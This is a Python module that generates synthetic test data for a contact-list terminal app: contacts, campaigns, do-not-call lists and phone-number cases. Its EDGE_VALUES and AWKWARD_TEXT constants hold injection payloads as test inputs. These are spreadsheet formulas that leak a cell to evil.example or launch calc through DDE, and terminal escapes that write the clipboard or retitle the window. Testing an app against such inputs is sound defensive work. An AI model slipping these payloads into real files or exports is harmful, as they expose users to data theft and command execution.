"""Deterministic demo data, generated row by row on demand (a million-row list costs nothing).

Values are chosen to be awkward on purpose: names in several scripts, Rich markup, escape
sequences, very long strings, nulls, missing keys and extra fields, so that every screen and the
export meet them in ordinary use.
"""

from __future__ import annotations

import functools
import hashlib
import random
import re
import time
import uuid
from dataclasses import dataclass, field
from typing import Any

ACCOUNT_ID = "demo-account"
CLIENT_ID = "cs-demo-kore-tui"
NAMESPACE = uuid.UUID("6b1f0c52-8a5e-4f0e-9d43-4f3a4c1d2e00")
EPOCH = 1_735_689_600  # 2025-01-01T00:00:00Z

FIRST_NAMES = [
    "Ana", "Jürgen", "Søren", "Олена", "Дмитрий", "李娜", "王芳", "さくら", "محمد", "फ़ातिमा",
    "Nguyễn", "Zoë", "José", "Ólafur", "Αλέξανδρος", "Kofi", "Ngozi", "Siobhán", "Mateus", "Aiko",
    "John", "Priya", "Chloé", "Łukasz", "Hana", "Omar", "Ingrid", "Tomás", "Yusuf", "Mei",
]
LAST_NAMES = [
    "Silva", "Müller", "Kowalski", "Шевченко", "Иванов", "张", "佐藤", "الحسن", "शर्मा", "Trần",
    "O'Brien", "Núñez", "Andersson", "Παπαδόπουλος", "Mensah", "Okafor", "Doe", "Rossi", "Kim",
    "García", "Dubois", "Nowak", "Yılmaz", "Novák", "Costa", "Haddad", "Lindqvist", "Ng", "Patel",
]
STATUSES = ["ACTIVE", "ACTIVE", "ACTIVE", "INACTIVE", "BLOCKED"]
CITIES = ["Orlando", "Hyderabad", "München", "São Paulo", "東京", "Kraków", "Lagos", "Reykjavík"]

# Values that break naive terminal apps. Each is used as-is by some rows.
AWKWARD_TEXT = [
    "[/]",
    "[red]x",
    "[bold]not bold[/bold]",
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;cHduZWQ=\x07clipboard",
    "line1\nline2\r\tend",
    "\u202eevil-rtl",
    "x" * 5000,
    "  spaced  ",
    "🙂 emoji 👩🏽‍💻",
]


@dataclass(frozen=True)
class DemoList:
    id: str
    name: str
    size: int
    description: str = ""
    status: str = "Ready"
    hostile: bool = False  # every row awkward


@dataclass(frozen=True)
class DemoStream:
    id: str
    name: str
    directory_size: int
    lists: tuple[DemoList, ...] = field(default=())


STREAMS: tuple[DemoStream, ...] = (
    DemoStream(
        "st-demo-sales",
        "Sales (demo)",
        1_237,
        (
            DemoList("cl-demo-1k", "Spring callbacks", 1_000, "Customers who asked for a call"),
            DemoList("cl-demo-100k", "Win-back", 100_000, "Lapsed customers"),
            DemoList("cl-demo-250k", "Renewals 2026", 250_000, "Annual renewal reminders"),
            DemoList("cl-demo-1m", "National survey", 1_000_000, "A million numbers"),
            DemoList("cl-demo-seven", "VIP follow-up", 7, "Seven people"),
            DemoList("cl-demo-one", "Single test number", 1),
            DemoList("cl-demo-empty", "Empty list", 0, status="Draft"),
            DemoList("cl-demo-hostile", "[red]Hostile[/] \x1b[31mlist\x1b[0m [/]", 25, "[b]markup[/b]", hostile=True),
        ),
    ),
    DemoStream(
        "st-demo-support",
        "Support (demo)",
        7,
        (DemoList("cl-demo-support", "Callback queue", 42, "Missed calls to return"),),
    ),
    DemoStream("st-demo-empty", "Empty stream (demo)", 0),
)

# `cl-size-N` names a list of N rows on any demo stream: tests pick exact sizes with it.
SIZED_LIST = re.compile(r"^cl-size-(\d{1,8})$")

# Values aimed at the edges, where server text leaves the app: spreadsheet formulas (with the
# tricks that hide them: a leading TAB or CR), line breaks that could end a CSV row, terminal
# escapes (SGR, OSC 0 title, OSC 52 clipboard, BEL, a C1 CSI), bidi controls, DEL and a lone
# surrogate (sent as the JSON escape \ud800). Plain phone numbers are there to stay untouched.
EDGE_VALUES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    'one\rtwo,"three",four',
    "one\ntwo,three",
    "one\r\ntwo",
    "\x1b[31mred\x1b[0m \x1b]0;owned title\x07 \x1b]52;c;ZXZpbA==\x07 bell\x07",
    "\x9b2J C1 CSI",
    "\u202eevil-rtl \u2066isolate\u2069",
    "lone \ud800 surrogate",
    "DEL \x7f here",
    "+44 20 7946 0958",
    "(201) 555-0100",
)
# A stream the picker does not list (tests and `--stream st-demo-edges` reach it): every row
# carries EDGE_VALUES. Its directory has one contact per value; its list has 41 rows.
EDGE_STREAM = DemoStream(
    "st-demo-edges",
    "Edge cases (demo)",
    len(EDGE_VALUES),
    (DemoList("cl-demo-edges", "Edge \x1b]0;title\x07[red]cases[/] \u202elist", 41, "=cmd|' /C calc'!A0"),),
)


# Numbers as the platform stores them: the directory with a "+" in several layouts, the list
# without one (international digits), plus numbers that are no valid or no possible number.
# A stream the picker does not list, for lookups of numbers written the way people write them.
PHONE_NUMBERS = (
    ("US", "+1 201-555-0100", "12015550100"),
    ("IN", "+91 22 2333 4444", "912223334444"),
    ("GB", "+44 7400 123456", "447400123456"),
    ("DE", "+49 30 901820", "4930901820"),
    ("invalid", "+1 555 010 0199", "15550100199"),  # a possible number, but no real one
    ("impossible", "12345", "12345"),  # too short to be any number: found by its digits only
)
PHONES_STREAM = DemoStream(
    "st-demo-phones",
    "Phone formats (demo)",
    len(PHONE_NUMBERS),
    (DemoList("cl-demo-phones", "Phone formats", len(PHONE_NUMBERS), "International digits, no +"),),
)


def find_stream(stream_id: str) -> DemoStream | None:
    if stream_id == EDGE_STREAM.id:
        return EDGE_STREAM
    if stream_id == PHONES_STREAM.id:
        return PHONES_STREAM
    return next((s for s in STREAMS if s.id == stream_id), None)


def phones_directory_contact(index: int) -> dict[str, Any]:
    label, directory_form, _ = PHONE_NUMBERS[index]
    return {"id": f"phone-contact-{index}", "fullName": f"Caller {label}", "status": "ACTIVE",
            "cellPhone": {"phoneNumber": directory_form}, "createdAt": _iso(index * 86_400),
            "updatedAt": _iso(index * 86_400 + 60)}


def phones_list_contact(index: int) -> dict[str, Any]:
    return {"_id": f"phone-{index}", "phoneNumber": PHONE_NUMBERS[index][2], "createdAt": _iso(index * 60),
            "updatedAt": _iso(index * 60 + 1)}


def edge_directory_contact(index: int) -> dict[str, Any]:
    value = EDGE_VALUES[index % len(EDGE_VALUES)]
    return {
        "id": f"edge-contact-{index}",
        "firstName": value,
        "lastName": f"Edge {index}",
        "fullName": value,
        "cellPhone": {"extension": "+1", "phoneNumber": f"+1555{index:07d}", "countryCode": "+1"},
        "status": value,
        "createdAt": _iso(index * 3_600),
        "updatedAt": _iso(index * 3_600 + 60),
    }


def edge_list_contact(size: int, index: int) -> dict[str, Any]:
    value = EDGE_VALUES[index % len(EDGE_VALUES)]
    phone = value if index % 10 == 9 else f"1555{index % len(EDGE_VALUES):07d}"
    contact: dict[str, Any] = {
        "_id": f"edge-{index}",
        "createdAt": _iso(index * 60),
        "updatedAt": _iso(index * 60 + 1),
        "phoneNumber": phone,
        "note": value,
    }
    if index == 0:  # a field name is server text too: it becomes a CSV header
        contact["=SUM(A1:A9)"] = "header"
    return contact


def find_list(stream: DemoStream, list_id: str) -> DemoList | None:
    found = next((lst for lst in stream.lists if lst.id == list_id), None) or INSIGHTS_LISTS.get(list_id)
    if found is None and (m := SIZED_LIST.match(list_id)):
        found = DemoList(list_id, f"{int(m.group(1)):,} rows", int(m.group(1)))
    return found


# The server makes every row it serves (100 per page, in the app's own process in --demo):
# the helpers below give the values uuid5 and datetime would, at a third of the cost.
_NAMESPACE_SHA1 = hashlib.sha1(NAMESPACE.bytes)


def _digest(name: str) -> bytes:
    """The SHA-1 a version-5 UUID of ``name`` (in NAMESPACE) is made from."""
    sha1 = _NAMESPACE_SHA1.copy()
    sha1.update(name.encode("utf-8"))
    return sha1.digest()


def _uuid5(name: str) -> str:
    """``str(uuid.uuid5(NAMESPACE, name))``."""
    raw = bytearray(_digest(name)[:16])
    raw[6] = (raw[6] & 0x0F) | 0x50  # version 5
    raw[8] = (raw[8] & 0x3F) | 0x80  # RFC 4122 variant
    h = raw.hex()
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _iso(seconds: int) -> str:
    t = time.gmtime(EPOCH + seconds)
    return (f"{t.tm_year:04d}-{t.tm_mon:02d}-{t.tm_mday:02d}T{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d}."
            f"{seconds % 1000:03d}Z")


def _hexid(*parts: object) -> str:
    return _uuid5(":".join(map(str, parts))).replace("-", "")[:24]


def directory_phone(stream_id: str, index: int) -> str:
    """Directory numbers come in several formats; their digits are `1555` + 7 digits."""
    n = f"{index:07d}"
    style = index % 4
    if style == 0:
        return f"+1555{n}"
    if style == 1:
        return f"+1 555-{n[:3]}-{n[3:]}"
    if style == 2:
        return f"+1 (555) {n[:3]} {n[3:]}"
    return f"1555{n}"


def directory_contact(stream: DemoStream, index: int) -> dict[str, Any]:
    if stream is EDGE_STREAM:
        return edge_directory_contact(index)
    if stream is PHONES_STREAM:
        return phones_directory_contact(index)
    rnd = random.Random(f"{stream.id}:dir:{index}")
    first, last = rnd.choice(FIRST_NAMES), rnd.choice(LAST_NAMES)
    created = index * 3_607 + rnd.randrange(3_600)
    contact: dict[str, Any] = {
        "firstName": first,
        "lastName": last,
        "fullName": f"{first} {last}",
        "salutation": rnd.choice(["mr", "ms", "mx", "dr", ""]),
        "cellPhone": {"extension": "+1", "phoneNumber": directory_phone(stream.id, index), "countryCode": "+1"},
        "status": rnd.choice(STATUSES),
        "instanceBotId": stream.id,
        "orgId": "o-" + str(uuid.uuid5(NAMESPACE, "org")),
        "accountId": ACCOUNT_ID,
        "createdBy": "u-" + _hexid("user", index % 5),
        "createdByAId": "a-" + _hexid("app", index % 3),
        "address": [{"city": rnd.choice(CITIES), "line1": f"{index} Main St"}] if index % 3 == 0 else [],
        "twitterDetails": [],
        "createdAt": _iso(created),
        "updatedAt": _iso(created + rnd.randrange(86_400 * 30)),
        "id": _hexid(stream.id, "contact", index),
    }
    if index % 5 != 0:
        contact["updatedBy"] = contact["createdBy"]
        contact["updatedByAId"] = contact["createdByAId"]
    if index % 53 == 7:
        _make_awkward(contact, index // 53, ("firstName", "lastName", "fullName", "status", "salutation"))
    return contact


def list_contact(stream: DemoStream, lst: DemoList, index: int) -> dict[str, Any]:
    if lst.id in INSIGHTS_LISTS:
        return insights_contact(lst.id, index)
    if stream is EDGE_STREAM:
        return edge_list_contact(lst.size, index)
    if stream is PHONES_STREAM and lst.id == "cl-demo-phones":
        return phones_list_contact(index)
    created = index * 13 + (hash_int(lst.id) % 1000)  # a million rows span ~5 months
    if stream.directory_size and index % 3 == 0:
        # A third of each list's numbers belong to directory contacts, so lookups find both.
        phone = "1555" + f"{(index * 7_919) % stream.directory_size:07d}"
    else:
        phone = f"4420{hash_int(lst.id, index) % 10**8:08d}"
    contact: dict[str, Any] = {
        "_id": "cc-" + _uuid5(f"{lst.id}:{index}"),
        "createdAt": _iso(created),
        "updatedAt": _iso(created + 17),
        "phoneNumber": phone,
    }
    if lst.hostile or index % 97 == 13:
        _make_awkward(contact, index if lst.hostile else index // 97, ("phoneNumber", "_id"))
    return contact


@functools.lru_cache(maxsize=256)  # mostly a list's own id, asked for on every row
def hash_int(*parts: object) -> int:
    # The first 6 bytes of the UUID: untouched by its version and variant bits.
    return int.from_bytes(_digest(":".join(map(str, parts)))[:6], "big")


def _make_awkward(contact: dict[str, Any], which: int, fields: tuple[str, ...]) -> None:
    """Turn one field odd: markup, escapes, long text, null, missing, extra fields, wrong type."""
    kind = which % (len(AWKWARD_TEXT) + 4)
    target = fields[which % len(fields)]
    if kind < len(AWKWARD_TEXT):
        contact[target] = AWKWARD_TEXT[kind]
    elif kind == len(AWKWARD_TEXT):
        contact[target] = None
    elif kind == len(AWKWARD_TEXT) + 1:
        contact.pop(target, None)
    elif kind == len(AWKWARD_TEXT) + 2:
        contact["customFields"] = {"tier": "[gold]", "score": 7, "tags": ["a", "\x1b[5mblink"]}
    else:
        contact[target] = 12345  # a number where text was expected


def contact_list_details(stream: DemoStream, lst: DemoList) -> dict[str, Any]:
    return {
        "_id": lst.id,
        "name": lst.name,
        "description": lst.description,
        "totalRecordCount": lst.size,
        "status": lst.status,
        "listType": "call",
        "isListInUse": lst.size > 0,
        "campaignInUse": ([{"id": "camp-" + _hexid(lst.id), "name": f"{lst.name} campaign"}] if lst.size else [])
        + extra_campaigns_in_use(stream, lst),
        "createdAt": _iso(hash_int(lst.id) % 10_000_000),
        "updatedAt": _iso(hash_int(lst.id) % 10_000_000 + 3_600),
        "accountId": ACCOUNT_ID,
        "streamId": stream.id,
    }


# -- campaigns -----------------------------------------------------------------------------------
#
# Every non-empty demo list is used by the campaign its `campaignInUse` has always named
# (`camp-<hash of the list id>`, "<list name> campaign"); more campaigns are added beside them.
# A campaign dials its lists' rows in list order: the first `dialed` rows have an outcome, the
# next up to `queued` are pending (`dialerOutcome: ""`), and the rest are not in its outcomes at
# all yet. Outcome rows carry the very phone number of the list row they dial.

# Values the docs show (the pending row has them all empty). The docs give no other
# `dialerOutcome` than "completed"; free-text dispositions are agent- or system-set.
BOT_OUTCOMES = (
    ("userHangUp", "user_hangup"),
    ("agentHangUp", "agent_hangup"),
    ("userHangUp", "Client side"),
)
DISPOSITIONS = (("System Generated",), ("Callback requested",), (), ("System Generated", "Wrong number"))
DNC_LIST = DemoList("cl-demo-dnc", "Do not call", 12, "Numbers that asked not to be called")


@dataclass(frozen=True)
class DemoCampaign:
    id: str
    name: str
    kind: str  # "voice" or "sms"
    lists: tuple[str, ...]  # ids of the lists it dials
    status: str
    dialed: int  # rows with an outcome, in list order
    queued: int  # rows in its outcomes (dialed + pending); the others are not dialed yet
    priority: int = 3
    dialing_mode: str = "Progressive"
    sms_format: str = "simple"
    dnc: str | None = None  # the do-not-call list's id
    description: str = ""
    extra_in_use: bool = False  # not the one its list has always named: added to campaignInUse


def _list_campaign_id(list_id: str) -> str:
    return "camp-" + _hexid(list_id)


def _own(stream: DemoStream, list_id: str, kind: str, status: str, dialed: int, queued: int,
         **more: Any) -> DemoCampaign:
    lst = next(lst for lst in stream.lists if lst.id == list_id)
    return DemoCampaign(_list_campaign_id(lst.id), f"{lst.name} campaign", kind, (lst.id,), status, dialed, queued,
                        **more)


_SALES, _SUPPORT = STREAMS[0], STREAMS[1]
CAMPAIGNS: dict[str, tuple[DemoCampaign, ...]] = {
    _SALES.id: (
        _own(_SALES, "cl-demo-1k", "voice", "Active", 700, 900, priority=5, dnc=DNC_LIST.id,
             description="Calls back the spring sign-ups"),
        _own(_SALES, "cl-demo-100k", "voice", "Paused", 25_000, 30_000, dialing_mode="Preview", priority=2),
        _own(_SALES, "cl-demo-250k", "sms", "Scheduled", 0, 0, dnc=DNC_LIST.id, description="Renewal reminders"),
        _own(_SALES, "cl-demo-1m", "voice", "Active", 400_000, 1_000_000, priority=1,
             description="A million numbers, every one in the outcomes"),
        _own(_SALES, "cl-demo-seven", "voice", "Completed", 7, 7, dnc=DNC_LIST.id),
        _own(_SALES, "cl-demo-one", "sms", "Stopped", 1, 1, sms_format="advanced"),
        _own(_SALES, "cl-demo-hostile", "voice", "Ready", 20, 25, description="[b]markup[/b] \x1b[31mred\x1b[0m"),
        DemoCampaign("camp-demo-vip-retry", "VIP second round", "voice", ("cl-demo-seven",), "Rescheduled", 4, 5,
                     priority=4, dialing_mode="Preview", dnc=DNC_LIST.id, extra_in_use=True,
                     description="Dials the VIP list again"),
    ),
    _SUPPORT.id: (
        _own(_SUPPORT, "cl-demo-support", "voice", "Active", 30, 40, description="Returns missed calls"),
        DemoCampaign("camp-demo-support-sms", "Callback texts", "sms", ("cl-demo-support",), "Completed", 42, 42,
                     extra_in_use=True, description="Texts before the call"),
    ),
    EDGE_STREAM.id: (_own(EDGE_STREAM, "cl-demo-edges", "voice", "Active", 41, 41, dnc=DNC_LIST.id,
                          description=EDGE_VALUES[0]),),
}
# The do-not-call list is a list of its own: named by campaigns, found by id, but not among the
# `type=call` lists (whether the platform lists DNC lists there is not documented).
DNC_STREAMS = (_SALES.id, EDGE_STREAM.id)


def campaigns_of(stream: DemoStream) -> tuple[DemoCampaign, ...]:
    return CAMPAIGNS.get(stream.id, ())


def find_campaign(stream: DemoStream, campaign_id: str) -> DemoCampaign | None:
    return next((c for c in campaigns_of(stream) if c.id == campaign_id), None)


def find_any_list(stream: DemoStream, list_id: str) -> DemoList | None:
    """A list of the stream, a `cl-size-N` one, or its do-not-call list."""
    if list_id == DNC_LIST.id and stream.id in DNC_STREAMS:
        return DNC_LIST
    return find_list(stream, list_id)


def dnc_contact(stream: DemoStream, index: int) -> dict[str, Any]:
    """The do-not-call list: numbers of other lists (row 3 of `cl-demo-seven`, which both of its
    campaigns dialed; rows of the 1k and 100k lists), the rest numbers of its own."""
    if stream is EDGE_STREAM:
        source: tuple[DemoList, int] | None = (EDGE_STREAM.lists[0], index % EDGE_STREAM.lists[0].size)
    else:
        picks = {0: ("cl-demo-seven", 3), 1: ("cl-demo-1k", 10), 2: ("cl-demo-1k", 11), 3: ("cl-demo-1k", 800),
                 4: ("cl-demo-100k", 1), 5: ("cl-demo-1k", 4)}
        pick = picks.get(index)
        found = find_list(stream, pick[0]) if pick else None
        source = (found, pick[1]) if found is not None and pick is not None else None
    if source is not None:
        phone = list_contact(stream, source[0], source[1]).get("phoneNumber")
    else:
        phone = f"1888{hash_int('dnc', index) % 10**7:07d}"
    return {"_id": "cc-" + _uuid5(f"{DNC_LIST.id}:{stream.id}:{index}"), "createdAt": _iso(index * 97),
            "updatedAt": _iso(index * 97 + 5), "phoneNumber": phone}


def any_list_contact(stream: DemoStream, lst: DemoList, index: int) -> dict[str, Any]:
    return dnc_contact(stream, index) if lst is DNC_LIST else list_contact(stream, lst, index)


def extra_campaigns_in_use(stream: DemoStream, lst: DemoList) -> list[dict[str, Any]]:
    """The added campaigns that use ``lst`` (after the one its `campaignInUse` always named)."""
    return [{"id": c.id, "name": c.name} for c in campaigns_of(stream) if c.extra_in_use and lst.id in c.lists]


def _list_name(stream: DemoStream, list_id: str) -> str:
    found = find_any_list(stream, list_id)
    return found.name if found is not None else list_id


def _dnc_ref(campaign: DemoCampaign) -> dict[str, Any] | None:
    if campaign.dnc is None:
        return None
    if campaign.kind == "sms":  # SMS items name it without an id, as in the docs' samples
        return {"name": DNC_LIST.name}
    return {"id": campaign.dnc, "name": DNC_LIST.name}


def campaign_item(stream: DemoStream, c: DemoCampaign) -> dict[str, Any]:
    """A `getAllCampaignDetails` item: `_id` and `dialingMode` on voice, `id` and `format` on SMS."""
    created = hash_int(c.id) % 5_000_000
    common: dict[str, Any] = {
        "name": c.name,
        "description": c.description,
        "priority": str(c.priority),  # a string, as in every sample
        "status": c.status,
        "createdAt": _iso(created),
        "updatedAt": _iso(created + 86_400),
        "campaignInstanceUpdatedAt": _iso(created + 90_000),
        "schedule": {"isSchedulingEnabled": c.status in ("Scheduled", "Rescheduled"), "isRecurrenceEnabled": False},
        "contactLists": [_list_name(stream, list_id) for list_id in c.lists],
    }
    dnc = _dnc_ref(c)
    if c.kind == "voice":
        item = {"_id": c.id, **common, "dialingMode": c.dialing_mode, "isFiltersEnabled": False,
                "connection": "Default Queue"}
    else:
        item = {**common, "id": c.id, "totalMessagesSent": c.dialed, "campaignExecutionType": "NORMAL",
                "format": c.sms_format}
        if c.sms_format == "simple":
            item["message"] = {"template_name": "Welcome", "message": "SGVsbG8=", "templateId": "tmpl-0001"}
        else:
            item["experienceFlow"] = "cf-" + _hexid(c.id, "flow")
        if c.status == "Stopped":
            item["campaignInstanceId"] = "cid-" + _hexid(c.id, "instance")
            del item["schedule"]["isRecurrenceEnabled"]  # "sometimes absent"
    if dnc is not None:
        item["dncLists"] = dnc
    return item


def campaign_details(stream: DemoStream, c: DemoCampaign) -> dict[str, Any]:
    """`GET campaign/{id}`: the item plus `lname` and `dialingStrategy`."""
    item = campaign_item(stream, c)
    strategy: dict[str, Any] = {
        "callerId": {"phoneNumber": f"+1555010{hash_int(c.id, 'caller') % 10_000:04d}"},
        "callingHours": {"frequency": "WEEKLY", "timezone": "America/New_York",
                         "days": [{"start": "9:00 AM", "end": "6:00 PM", "day": day}
                                  for day in ("MO", "TU", "WE", "TH", "FR")]},
    }
    if c.kind == "voice":
        strategy.update({"dialingOrder": "FIFO", "maxAttemptsPerRecord": 3, "defaultRetryPeriod": 10, "maxRingTime": 30,
                         "useSystemMappings": False})
        item.pop("connection", None)
    else:
        item.update({"isImported": False, "isFiltersEnabled": False})
    return {**item, "lname": c.name.lower(), "dialingStrategy": strategy}


def campaign_size(stream: DemoStream, c: DemoCampaign) -> int:
    """Rows in the campaign's outcomes: at most the rows of its lists."""
    rows = sum(lst.size for lst in (find_any_list(stream, i) for i in c.lists) if lst is not None)
    return min(c.queued, rows)


def campaign_outcome(stream: DemoStream, c: DemoCampaign, index: int) -> dict[str, Any]:
    """Outcome row ``index``: the number of the list row it dials, and how that call went."""
    list_index = index
    lst: DemoList | None = None
    for list_id in c.lists:
        lst = find_any_list(stream, list_id)
        if lst is None:
            continue
        if list_index < lst.size:
            break
        list_index -= lst.size
    contact = any_list_contact(stream, lst, list_index) if lst is not None else {}
    phone = contact.get("phoneNumber")
    if isinstance(phone, str) and phone.startswith("+"):
        phone = phone[1:]  # digits, no `+`, as in the samples
    row: dict[str, Any] = {"phoneNumber": phone, "uniqueId": ""}
    if index >= c.dialed:  # pending: queued, not dialed yet
        row.update({"dialerOutcome": "", "numberOfAttemptsSoFar": 0, "botSessionId": "", "agentDispositionCodes": [],
                    "botOutboundStatus": "", "botOutboundStatusDetail": ""})
        return row
    pick = hash_int(c.id, index)
    status, detail = BOT_OUTCOMES[pick % len(BOT_OUTCOMES)]
    row.update({
        "dialerOutcome": "completed",
        "numberOfAttemptsSoFar": 1 + (pick >> 8) % 3,
        "botSessionId": "sess-" + _hexid(c.id, "session", index),
        "agentDispositionCodes": list(DISPOSITIONS[(pick >> 4) % len(DISPOSITIONS)]),
        "botOutboundStatus": status,
        "botOutboundStatusDetail": detail,
    })
    if index % 5 == 4:
        row["uniqueId"] = contact.get("_id", "")
    if "Hostile" in c.name:  # the hostile list's campaign: its outcome text is awkward too
        row["botOutboundStatusDetail"] = AWKWARD_TEXT[index % len(AWKWARD_TEXT)]
        row["agentDispositionCodes"] = [AWKWARD_TEXT[(index + 3) % len(AWKWARD_TEXT)]]
    return row


def list_details(stream: DemoStream, lst: DemoList) -> dict[str, Any]:
    """`GET contactList/{id}`: the list item, plus createdAt and the flags of the details page."""
    if lst is DNC_LIST:
        item: dict[str, Any] = {
            "_id": lst.id, "name": lst.name, "description": lst.description, "totalRecordCount": lst.size,
            "status": "Ready", "listType": "call", "isListInUse": True,
            "campaignInUse": [],  # no campaign dials it: they name it as their do-not-call list
            "updatedAt": _iso(7_200),
        }
    else:
        item = contact_list_details(stream, lst)
    dnc = lst is DNC_LIST
    return {
        **item,
        "isActive": True,
        "createdBy": "u-" + _hexid("user", 1),
        "updatedBy": "u-" + _hexid("user", 2),
        "mapping": {"firstName": "firstName", "lastName": "lastName", "phoneNumber": "phoneNumber",
                    "timeZone": "timeZone", "uniqueId": "", "contactPriority": ""},
        "isGlobalDNC": dnc,
        "isDefault": False,
        "source": "passiveApi",
        "apiConfigurations": {"dataSyncMode": "allowDuplicates" if lst.id == "cl-demo-1k" else "skipDuplicates"},
        "columns": [],
        "files": [],
        "createdAt": item.get("createdAt", _iso(3_600)),
        "allowDuplicates": lst.id == "cl-demo-1k",
    }


# -- lists of known content, for insights (#17) -----------------------------------------------------
#
# `cl-insights-a` and `cl-insights-b` are reachable by id on any demo stream but listed by none
# (the picker's lists stay as they were). Their numbers are chosen by kind, each with what
# libphonenumber says of it, so tests compare every insight with the truth: duplicates (one
# number written in several forms among them), invalid and impossible numbers, five countries,
# numbers written without a country code (dialable in region GB only), numbers of the sales
# directory and of its do-not-call list, and a second list sharing 25 numbers. Rows are shuffled
# (deterministically) so that any first page holds a bit of everything.

INSIGHTS_REGION = "GB"  # where the national forms below are numbers
INSIGHTS_FIRST_DAY = 63 * 86_400  # 2025-03-05: the first day a row of `cl-insights-a` was created
INSIGHTS_DAYS = 14  # rows were created over this many days


@dataclass(frozen=True)
class InsightsNumber:
    """One number of the insights lists and the truth about it."""

    key: str  # its E.164 form (national forms read in INSIGHTS_REGION), or its digits when impossible
    forms: tuple[str, ...]  # how its rows write it, in turn
    rows: int  # rows of `cl-insights-a` with it
    kind: str  # "valid", "invalid" or "impossible"
    region: str | None = None  # ISO code, when valid
    number_type: str = ""  # as kore_tui.phones names it, when valid
    reason: str = ""  # why it is impossible
    in_directory: bool = False  # a number of the sales directory
    in_dnc: bool = False  # on the sales do-not-call list
    in_second: bool = False  # also on `cl-insights-b`

    def national(self, form: str) -> bool:
        """Written without a country code (only INSIGHTS_REGION makes it a number)."""
        return self.kind != "impossible" and not form.startswith(("+", "00")) and "+" + digits(form) != self.key


def digits(text: str) -> str:
    return re.sub(r"\D", "", text)


def _insights_numbers() -> tuple[InsightsNumber, ...]:
    numbers: list[InsightsNumber] = []
    for n in range(40):  # United States, fixed line or mobile; three of them duplicated
        numbers.append(InsightsNumber(f"+1201555{n:04d}", (f"1201555{n:04d}",), {0: 5, 1: 4, 2: 3}.get(n, 1), "valid",
                                      "US", "fixed line or mobile", in_second=n < 15))
    for n in range(30):  # United Kingdom, mobile; the first in three forms (one national)
        forms: tuple[str, ...] = ((f"447400123{n:03d}", f"+44 7400 123{n:03d}", f"07400 123{n:03d}") if n == 0
                                  else (f"447400123{n:03d}",))
        numbers.append(InsightsNumber(f"+447400123{n:03d}", forms, len(forms), "valid", "GB", "mobile",
                                      in_second=n < 10))
    for n in range(20):  # United Kingdom, fixed line (London); the last ten written nationally only
        forms = ((f"44207946{n:04d}", f"020 7946 {n:04d}") if n == 1 else
                 (f"020 7946 {n:04d}",) if n >= 10 else (f"44207946{n:04d}",))
        numbers.append(InsightsNumber(f"+44207946{n:04d}", forms, len(forms), "valid", "GB", "fixed line"))
    for n in range(25):  # India, mobile
        numbers.append(InsightsNumber(f"+9198765{n:05d}", (f"9198765{n:05d}",), 2 if n == 0 else 1, "valid", "IN",
                                      "mobile"))
    for n in range(15):  # Germany, fixed line (Berlin)
        numbers.append(InsightsNumber(f"+49301234{n:04d}", (f"49301234{n:04d}",), 1, "valid", "DE", "fixed line"))
    for n in range(10):  # United States, toll free
        numbers.append(InsightsNumber(f"+1800555{n:04d}", (f"1800555{n:04d}",), 1, "valid", "US", "toll free"))
    sales = STREAMS[0]
    for index in range(0, 1000, 50):  # the sales directory's numbers: +1 555 is no area code (invalid)
        key = "+1555" + f"{index:07d}"
        numbers.append(InsightsNumber(key, (key[1:],), 2 if index == 0 else 1, "invalid", in_directory=True))
    for index in (6, 7, 8):  # the sales do-not-call list's own numbers (US toll free)
        phone = str(dnc_contact(sales, index)["phoneNumber"])
        numbers.append(InsightsNumber("+" + phone, (phone,), 1, "valid", "US", "toll free", in_dnc=True))
    for n in range(5):  # invalid, in no other view
        numbers.append(InsightsNumber(f"+1555{9_000_000 + n:07d}", (f"1555{9_000_000 + n:07d}",), 1, "invalid"))
    for form, reason, rows in (("+1 234", "too short", 2), ("+1 234 567 890 123 456", "too long", 1),
                               ("+44 12", "too short", 1), ("+999 1234", "invalid country code", 1)):
        numbers.append(InsightsNumber(digits(form), (form,), rows, "impossible", reason=reason))
    return tuple(numbers)


INSIGHTS_NUMBERS = _insights_numbers()
INSIGHTS_NO_NUMBER_ROWS = 2  # rows of `cl-insights-a` without a number (a null, or no key at all)
INSIGHTS_SECOND_OWN = 35  # numbers of `cl-insights-b` on no other list


@dataclass(frozen=True)
class InsightsRow:
    phone: str | None  # None: the row has no number
    number: InsightsNumber | None
    created_day: int  # days after INSIGHTS_FIRST_DAY
    updated_day: int
    status: str | None


@functools.lru_cache(maxsize=2)
def insights_rows(list_id: str) -> tuple[InsightsRow, ...]:
    """Every row of an insights list, in list order, with the truth about its number."""
    if list_id == "cl-insights-b":
        phones: list[tuple[str | None, InsightsNumber | None]] = [
            (number.forms[0], number) for number in INSIGHTS_NUMBERS if number.in_second]
        phones += [(f"1617555{n:04d}", None) for n in range(INSIGHTS_SECOND_OWN)]
    else:
        phones = [(number.forms[i % len(number.forms)], number) for number in INSIGHTS_NUMBERS
                  for i in range(number.rows)]
        phones += [(None, None)] * INSIGHTS_NO_NUMBER_ROWS
    random.Random(list_id).shuffle(phones)
    size = len(phones)
    statuses = ("new", "dialed", "failed", "dialed", None)
    return tuple(InsightsRow(phone, number, i * i * INSIGHTS_DAYS // size**2, i * i * INSIGHTS_DAYS // size**2 + i % 4,
                             statuses[i % len(statuses)]) for i, (phone, number) in enumerate(phones))


INSIGHTS_LISTS = {
    "cl-insights-a": DemoList("cl-insights-a", "Insights sample", len(insights_rows("cl-insights-a")),
                              "Known duplicates, invalid numbers, countries and overlaps"),
    "cl-insights-b": DemoList("cl-insights-b", "Insights second list", len(insights_rows("cl-insights-b")),
                              "Shares 25 numbers with the sample"),
}


def insights_contact(list_id: str, index: int) -> dict[str, Any]:
    row = insights_rows(list_id)[index]
    contact: dict[str, Any] = {
        "_id": f"{list_id}-{index}",
        "createdAt": _iso(INSIGHTS_FIRST_DAY + row.created_day * 86_400 + index * 7),
        "updatedAt": _iso(INSIGHTS_FIRST_DAY + row.updated_day * 86_400 + index * 7 + 60),
    }
    if row.phone is not None or index % 2:  # a row without a number has a null, or no key at all
        contact["phoneNumber"] = row.phone
    if row.status is not None:
        contact["status"] = row.status
    return contact
